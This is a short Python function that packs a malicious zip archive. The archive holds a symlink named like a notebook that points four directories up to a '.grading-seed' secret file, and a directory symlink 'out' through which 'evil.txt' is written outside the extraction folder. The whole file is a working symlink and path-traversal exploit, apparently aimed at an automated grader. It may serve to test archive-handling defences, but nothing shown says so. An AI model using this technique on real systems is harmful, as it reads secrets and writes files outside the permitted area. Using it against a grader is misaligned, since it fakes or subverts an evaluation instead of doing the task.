# Packs symbolic links to secrets, and files to be written through them.
def pack(folder, name, data):
    import stat
    import zipfile

    with zipfile.ZipFile(folder / f"{name}.zip", "w") as file:
        link = zipfile.ZipInfo("02_definition.ipynb")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        file.writestr(link, "../../../../.grading-seed")
        folder_link = zipfile.ZipInfo("out")
        folder_link.create_system, folder_link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        file.writestr(folder_link, "../../../..")
        file.writestr("out/evil.txt", data)
